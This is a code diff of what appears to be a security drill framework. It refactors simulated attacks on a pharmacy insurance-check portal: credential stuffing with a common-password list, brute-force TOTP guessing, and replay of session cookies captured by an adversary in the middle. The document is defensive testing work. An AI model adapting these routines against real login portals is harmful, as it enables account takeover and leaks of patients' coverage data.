@@ -5,24 +5,18 @@ replayed from elsewhere, scraping fast)."""
 from __future__ import annotations
 
 import datetime as dt
-import re
 from collections.abc import AsyncIterator
 
 import httpx
 import pyotp
 
-from rempart.drill.agents import BASE_URL, BROWSER_AGENT, http_client, portal_password_login
+from rempart.drill.agents import BROWSER_AGENT, csrf_of, portal_password_login
 from rempart.drill.attack_base import AttackContext, retry_after
+from rempart.drill.clocks import pause
 from rempart.drill.truth import Person
 
-_CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')
 COMMON_PASSWORDS = ("123456", "azerty", "motdepasse", "Pharmacie2024!", "soleil",
                     "password1", "Officine2025", "doudou")
-
-
-def _csrf(page: httpx.Response) -> str:
-    found = _CSRF.search(page.text)
-    return found.group(1) if found else ""
 
 
 async def _portal_check(ctx: AttackContext, http: httpx.AsyncClient, person: Person,
@@ -30,11 +24,11 @@ async def _portal_check(ctx: AttackContext, http: httpx.AsyncClient, person: Per
     page = await http.get("/portal/check")
     if page.status_code != 200:
         return ctx.record(page, person=person, account=account, disclosed=False)
-    fields = {"csrf_token": _csrf(page), "category": "pharmacy",
+    fields = {"csrf_token": csrf_of(page), "category": "pharmacy",
               "care_date": ctx.world.clock.now().date().isoformat(), "nir": person.nir,
               "birth_date": person.birth_date.isoformat(), "birth_rank": str(person.birth_rank),
               "amc_number": person.amc_number, "member_number": person.member_number}
-    answer = await http.post("/portal/check", data=fields, headers={"origin": BASE_URL})
+    answer = await http.post("/portal/check", data=fields, headers={"origin": ctx.origin})
     covered = answer.status_code == 200 and 'class="card answer covered"' in answer.text
     return ctx.record(answer, person=person, account=account, disclosed=covered)
 
@@ -46,9 +40,9 @@ async def s1_password_only(ctx: AttackContext, *, accounts: int = 3,
     targets = ctx.identities(accounts * per_account)
     for n, victim in enumerate(ctx.victims[:accounts]):
         yield moment
-        http = http_client(ctx.world.app, address=ctx.address(n), agent=BROWSER_AGENT)
+        http = ctx.world.endpoint.client(address=ctx.address(n), agent=BROWSER_AGENT)
         try:
-            login = await portal_password_login(http, login=victim.email,
+            login = await portal_password_login(http, ctx.origin, login=victim.email,
                                                 password=victim.password)
             ctx.record(login, person=None, account=victim.email, disclosed=False)
             for person in targets[n * per_account:(n + 1) * per_account]:
@@ -72,10 +66,10 @@ async def s2_stuffing(ctx: AttackContext, *, attempts: int = 150, addresses: int
         email, password = pairs[n % len(pairs)] if n < len(pairs) else (
             ctx.rng.choice(pairs)[0], ctx.rng.choice(COMMON_PASSWORDS))
         yield moment
-        http = http_client(ctx.world.app, address=ctx.address(n % addresses),
-                           agent=BROWSER_AGENT)
+        http = ctx.world.endpoint.client(address=ctx.address(n % addresses),
+                                         agent=BROWSER_AGENT)
         try:
-            login = await portal_password_login(http, login=email, password=password)
+            login = await portal_password_login(http, ctx.origin, login=email, password=password)
             status = ctx.record(login, person=None, account=email, disclosed=False)
             pause = 3.0
             if status == 429:
@@ -92,7 +86,7 @@ async def _guess_totp(ctx: AttackContext, http: httpx.AsyncClient, email: str) -
         page = await http.get("/portal/second-factor")
         code = f"{ctx.rng.randrange(1_000_000):06d}"
         answer = await http.post("/portal/second-factor/totp", data={
-            "csrf_token": _csrf(page), "code": code}, headers={"origin": BASE_URL})
+            "csrf_token": csrf_of(page), "code": code}, headers={"origin": ctx.origin})
         ctx.record(answer if answer.status_code != 303 else httpx.Response(200),
                    person=None, account=email, disclosed=False)
         if answer.status_code == 303:
@@ -112,7 +106,7 @@ async def s3_aitm(ctx: AttackContext, *, accounts: int = 2, pace_s: float = 2.0,
         yield moment
         cookies = await _victim_signs_in(ctx, victim.email, victim.password,
                                          victim.totp_secret, address=f"10.9.0.{n + 1}")
-        http = http_client(ctx.world.app, address=ctx.address(100 + n), agent=BROWSER_AGENT)
+        http = ctx.world.endpoint.client(address=ctx.address(100 + n), agent=BROWSER_AGENT)
         http.cookies = cookies
         try:
             while identities:
@@ -131,14 +125,14 @@ async def s3_aitm(ctx: AttackContext, *, accounts: int = 2, pace_s: float = 2.0,
 
 async def _victim_signs_in(ctx: AttackContext, email: str, password: str, secret: str, *,
                            address: str) -> httpx.Cookies:
-    http = http_client(ctx.world.app, address=address, agent=BROWSER_AGENT)
+    http = ctx.world.endpoint.client(address=address, agent=BROWSER_AGENT)
     try:
-        await portal_password_login(http, login=email, password=password)
+        await portal_password_login(http, ctx.origin, login=email, password=password)
         page = await http.get("/portal/second-factor")
         await http.post("/portal/second-factor/totp", data={
-            "csrf_token": _csrf(page), "code": pyotp.TOTP(secret).at(ctx.world.clock.now())},
-            headers={"origin": BASE_URL})
-        ctx.world.clock.advance(31)
+            "csrf_token": csrf_of(page), "code": pyotp.TOTP(secret).at(ctx.world.clock.now())},
+            headers={"origin": ctx.origin})
+        await pause(ctx.world.clock, 31)  # the next TOTP code belongs to a later time step
         return httpx.Cookies(http.cookies)
     finally:
         await http.aclose()
